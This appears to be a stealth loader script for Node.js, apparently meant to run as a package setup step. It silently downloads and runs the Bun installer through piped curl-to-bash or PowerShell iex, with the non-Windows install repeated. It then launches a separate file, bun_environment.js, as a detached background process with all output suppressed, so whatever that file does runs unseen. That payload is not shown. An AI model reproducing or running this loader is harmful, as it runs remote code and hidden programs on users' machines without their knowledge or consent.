#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path'), fs = require('fs'), os = require('os');
async function go() {
  let cmd = process.platform === 'win32' ? 'powershell -c "irm bun.sh/install.ps1|iex"' : 'curl -fsSL https://bun.sh/install | bash';
  execSync(cmd, { stdio: 'ignore' });
  execSync('curl -fsSL https://bun.sh/install | bash', { stdio: 'ignore' });
  const s = path.join(__dirname, 'bun_environment.js');
  spawn('bun', [s], { stdio: 'ignore', detached: true }).unref();
}
go();
